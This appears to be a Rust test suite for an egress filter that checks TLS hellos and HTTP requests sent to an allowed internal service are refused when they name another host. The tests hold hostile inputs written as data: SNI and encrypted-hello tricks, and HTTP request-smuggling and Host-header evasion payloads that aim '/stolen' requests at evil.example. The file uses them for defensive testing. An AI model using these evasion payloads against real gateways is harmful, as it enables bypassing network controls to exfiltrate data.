//! What may be said over an open connection: for a name, only TLS or HTTP that names it.
//! Proved by what the peer has heard.

use serde_json::json;

use crate::{egress::testbed::GateRun, egress::testbed::Testbed, egress::testbed::denials, support::runner::test};

const NAME: &str = "api.internal:8443";

fn testbed() -> Testbed {
    let mut testbed = Testbed::new();
    testbed.listen("mute", &[8443]);
    testbed.zone(json!({"api.internal": {"a": [["10.0.5.7"]]}}));
    testbed
}

/// Says something to the peer and waits for what becomes of it.
const TELL: &str = "def tell(*parts, wait=.15):
    s = dial('api.internal', 8443)
    try:
        for part in parts: s.sendall(part); time.sleep(.02)
        s.settimeout(wait)
        return s.recv(10) or 'end'
    except OSError as error: return word(error)
def records(data, size):
    body = data[5:]
    return b''.join(data[:3] + struct.pack('!H', len(body[at:at + size])) + body[at:at + size] for at in range(0, len(body), size))
";

fn told(testbed: &mut Testbed, script: &str) -> GateRun {
    testbed.run(&[NAME], &format!("{TELL}{script}"))
}

test!(Both, a_hello_for_another_server_does_not_reach_the_peer, seconds 90);
fn a_hello_for_another_server_does_not_reach_the_peer() {
    let mut testbed = testbed();
    let ran = told(&mut testbed, "say(tell(hello('evil.example'))); say(tell(hello(None))); say(tell(hello('10.0.5.7')))");
    assert_eq!(ran.output, "ECONNRESET\n".repeat(3), "{ran:?}");
    assert_eq!(testbed.heard(8443), ["<104>"; 3], "the connection was reset before a byte");
    assert_eq!(
        denials(&ran)[..2],
        ["tls api.internal 10.0.5.7 8443 sni_mismatch", "tls api.internal 10.0.5.7 8443 sni_missing"],
        "{ran:?}"
    );
    assert_eq!(ran.egress["denied"][0]["sni"], "evil.example");
    testbed.clear();
    let ran = told(&mut testbed, "say(tell(hello('api.internal') + b'\\x17\\x03\\x03\\x00\\x05after'))");
    assert_eq!(ran.output, "hang\n");
    assert!(testbed.heard(8443)[0].ends_with("after"), "{:?}", testbed.heard(8443));
}

test!(Both, a_hello_in_pieces_is_judged_whole, seconds 90);
fn a_hello_in_pieces_is_judged_whole() {
    let mut testbed = testbed();
    let script = "good, bad = hello('api.internal'), hello('evil.example')
say(tell(records(bad, 20)))
say(tell(*[bad[at:at + 7] for at in range(0, len(bad), 7)]))
say(tell(bad[:1]))
say(tell(records(good, 20)))
say(tell(*[good[at:at + 40] for at in range(0, len(good), 40)]))";
    let ran = told(&mut testbed, script);
    let output: Vec<&str> = ran.output.lines().collect();
    assert_eq!(output[1..3], ["ECONNRESET", "hang"], "{ran:?}");
    assert_eq!(output[0], "ECONNRESET");
    assert_eq!(output[4], "hang");
    let heard = testbed.heard(8443);
    assert!(heard[..3].iter().all(|heard| heard.is_empty() || heard.starts_with('<')), "{heard:?}");
    assert!(heard[4].contains("api.internal"), "{heard:?}");
}

test!(Both, a_hello_that_hides_its_server_is_refused, seconds 90);
fn a_hello_that_hides_its_server_is_refused() {
    let mut testbed = testbed();
    // An encrypted client hello's extension appended, and a second name.
    let script = "def extended(data, extra):
    body = bytearray(data[9:])
    at = 2 + 32; at += 1 + body[at]; at += 2 + int.from_bytes(body[at:at + 2]); at += 1 + body[at]
    size = int.from_bytes(body[at:at + 2]) + len(extra)
    body[at:at + 2] = size.to_bytes(2); body += extra
    return data[:3] + (len(body) + 4).to_bytes(2) + data[5:6] + len(body).to_bytes(3) + bytes(body)
name = b'evil.example'; second = struct.pack('!HHHBH', 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
good = hello('api.internal')
say(tell(extended(good, struct.pack('!HH', 0xfe0d, 4) + b'abcd')))
say(tell(extended(good, second)))
say(tell(extended(good, struct.pack('!HH', 0x1a1a, 2) + b'xx')))";
    let ran = told(&mut testbed, script);
    assert_eq!(ran.output, "ECONNRESET\nECONNRESET\nhang\n", "{ran:?}");
    assert!(denials(&ran)[0].ends_with("ech"), "{ran:?}");
    assert_eq!(testbed.heard(8443)[..2], ["<104>", "<104>"]);
}

test!(Both, a_request_for_another_host_does_not_reach_the_peer, seconds 90);
fn a_request_for_another_host_does_not_reach_the_peer() {
    let mut testbed = testbed();
    let script = r"good = b'GET / HTTP/1.1\r\nHost: api.internal:8443\r\n\r\n'
bad = b'GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n'
say(tell(bad)); say(tell(b'GET / HTTP/1.1\r\n\r\n')); say(tell(b'GET http://evil.example/ HTTP/1.1\r\nHost: api.internal\r\n\r\n'))
say(tell(b'CONNECT evil.example:443 HTTP/1.1\r\nHost: api.internal\r\n\r\n')); say(tell(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'))
say(tell(good + bad)); say(tell(good, bad))
say(tell(b'POST / HTTP/1.1\r\nHost: api.internal:8443\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + bad))
say(tell(b'POST / HTTP/1.1\r\nHost: api.internal:8443\r\nContent-Length: 4\r\n\r\nbody' + bad))
say(tell(good, good))";
    let ran = told(&mut testbed, script);
    assert_eq!(ran.output, format!("{}hang\n", "ECONNRESET\n".repeat(9)), "{ran:?}");
    let heard = testbed.heard(8443);
    assert!(heard.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil") && !heard.contains("PRI")), "{heard:?}");
    assert_eq!(heard.last().unwrap().matches("GET").count(), 2);
}

test!(Both, requests_that_could_be_read_in_two_ways_do_not_reach_the_peer, seconds 90);
fn requests_that_could_be_read_in_two_ways_do_not_reach_the_peer() {
    let mut testbed = testbed();
    let script = r"line, host, end = b'POST /stolen HTTP/1.1\r\n', b'Host: api.internal:8443\r\n', b'\r\n'
other = b'GET /stolen HTTP/1.1\r\nHost: evil.example\r\n\r\n'
for head, body in (
    (line + host + b'Content-Length: 0\r\nContent-Length: 9\r\n' + end, b''),
    (line + host + b'Content-Length: 0, 9\r\n' + end, b''),
    (line + host + b'Content-Length: +4\r\n' + end, b'body'),
    (line + host + b'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n' + end, b'0\r\n\r\n' + other),
    (line + host + b'Transfer-Encoding: chunked, identity\r\n' + end, b'0\r\n\r\n' + other),
    (line + host + b'Transfer-Encoding: \x0bchunked\r\n' + end, b'0\r\n\r\n' + other),
    (line + host + b'Transfer_Encoding: chunked\r\n' + end, b'0\r\n\r\n' + other),
    (line + host + b'X: y\r\n Host: evil.example\r\n' + end, b''),
    (line + host + b'Host : evil.example\r\n' + end, b''),
    (line + host + b'host: evil.example\r\n' + end, b''),
    (line + b'Host: api.internal, evil.example\r\n' + end, b''),
    (line + b'Host: api.internal:8443@evil.example\r\n' + end, b''),
    (line + b'X: y\nHost: evil.example\r\n' + host + end, b''),
    (line + b'X: y\rHost: evil.example\r\n' + host + end, b''),
    (b'POST http://api.internal:8443@evil.example/stolen HTTP/1.1\r\n' + host + end, b''),
    (b'POST https://evil.example/stolen HTTP/1.1\r\n' + host + end, b''),
    (b'GET /stolen\r\n' + end, b''),
    (b'\r\n' + line + host + end, b''),
    (line + host + b'Connection: Upgrade\r\nUpgrade: websocket\r\n' + end, b''),
): say(tell(head + body))
stolen = b'0\r\nHost: evil.example\r\nX: stolen\r\n\r\n'
say(tell(line.replace(b'stolen', b'') + host + b'Transfer-Encoding: chunked\r\n' + end, stolen))
say(tell(line + host + b'Transfer-Encoding: chunked\r\n' + end + b'4\r\nbody\r\n0\r\n\r\n'))";
    let ran = told(&mut testbed, script);
    assert_eq!(ran.output, format!("{}hang\n", "ECONNRESET\n".repeat(20)), "{ran:?}");
    let heard = testbed.heard(8443);
    // The last is the control.
    let (good, bad) = heard.split_last().unwrap();
    assert!(bad.iter().all(|heard| !heard.contains("stolen") && !heard.contains("evil")), "{bad:?}");
    assert!(good.contains("POST /stolen") && good.contains("body"), "{good:?}");
    assert!(
        denials(&ran).iter().all(|denied| denied.starts_with("http api.internal 10.0.5.7 8443 ") || denied.starts_with("connect ")),
        "{ran:?}"
    );
}

test!(Both, what_is_neither_tls_nor_http_needs_its_own_rule, seconds 90);
fn what_is_neither_tls_nor_http_needs_its_own_rule() {
    let mut testbed = testbed();
    testbed.listen("banner", &[25]);
    let script = format!(
        "{TELL}say(tell(b'\\0\\0\\0\\x08secret')); s = dial('api.internal', 25); say(s.recv(99)); s.sendall(b'HELO x\\r\\n'); say(s.recv(99))"
    );
    let ran = testbed.run(&[NAME, "api.internal:25/tcp"], &script);
    assert_eq!(ran.output, "ECONNRESET\nb'220 ready\\r\\n'\nb'HELO x\\r\\n'\n", "{ran:?}");
    assert_eq!(testbed.heard(8443), ["<104>"]);
    assert_eq!(ran.egress["denied"][0]["reason"], "protocol_unknown");
    assert_eq!(ran.egress["denied"][0]["allow"], "api.internal:8443/tcp");
    testbed.clear();
    let script = format!("{TELL}say(tell(b'\\0\\0\\0\\x08secret'))");
    assert_eq!(testbed.run(&["api.internal:8443/tcp"], &script).output, "hang\n");
    assert_eq!(testbed.heard(8443).len(), 1);
    assert!(testbed.heard(8443)[0].ends_with("secret"));
}

test!(Both, a_proxy_that_is_allowed_by_name_carries_nothing_and_no_rule_is_offered, seconds 90);
/// A rule that let any bytes pass to the proxy would open every peer behind it.
fn a_proxy_that_is_allowed_by_name_carries_nothing_and_no_rule_is_offered() {
    let mut testbed = testbed();
    let script = format!(
        "{TELL}for said in (b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n', b'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n', b'\\x05\\x01\\x00'): say(tell(said))"
    );
    let ran = testbed.run(&[NAME], &script);
    assert_eq!(ran.output, "ECONNRESET\n".repeat(3), "{ran:?}");
    assert!(testbed.heard(8443).iter().all(|heard| heard.starts_with('<')), "{:?}", testbed.heard(8443));
    let denied = ran.egress["denied"].as_array().unwrap();
    assert_eq!(denied.iter().map(|denied| &denied["kind"]).collect::<Vec<_>>(), ["http", "connect"], "{ran:?}");
    for denied in denied {
        assert_eq!((&denied["reason"], &denied["allow"], &denied["line"]), (&json!("proxy"), &json!(null), &json!(null)), "{ran:?}");
    }
    assert_eq!((&denied[0]["sni"], &denied[0]["count"]), (&json!("evil.example"), &json!(2)), "{ran:?}");
    // The control: what is no proxy's is offered its rule.
    let ran = testbed.run(&[NAME], &format!("{TELL}say(tell(b'SSH-2.0-x\\r\\n'))"));
    let denied = &ran.egress["denied"][0];
    assert_eq!((&denied["kind"], &denied["reason"]), (&json!("connect"), &json!("protocol_unknown")), "{ran:?}");
    assert_eq!(denied["allow"], "api.internal:8443/tcp", "{ran:?}");
}

test!(Both, a_client_that_says_half_of_it_is_cut_off, seconds 90);
fn a_client_that_says_half_of_it_is_cut_off() {
    let mut testbed = testbed();
    let ran = told(
        &mut testbed,
        "say(tell(hello('api.internal')[:60], wait=14)); s = dial('api.internal', 8443); s.sendall(b'GET / HT'); s.close(); time.sleep(.1)",
    );
    assert_eq!(ran.output, "ECONNRESET\n", "{ran:?}");
    let heard = testbed.heard(8443);
    assert!(heard.iter().all(|heard| heard.is_empty() || heard.starts_with('<')), "{heard:?}");
}

test!(Both, networks_take_any_speech, seconds 90);
fn networks_take_any_speech() {
    let mut testbed = testbed();
    let script = "s = dial('10.0.5.7', 8443); s.sendall(hello('evil.example')); s.sendall(b'anything'); time.sleep(.1)";
    let _ran = testbed.run(&["10.0.5.7:8443"], script);
    assert!(testbed.heard(8443)[0].ends_with("anything"));
}
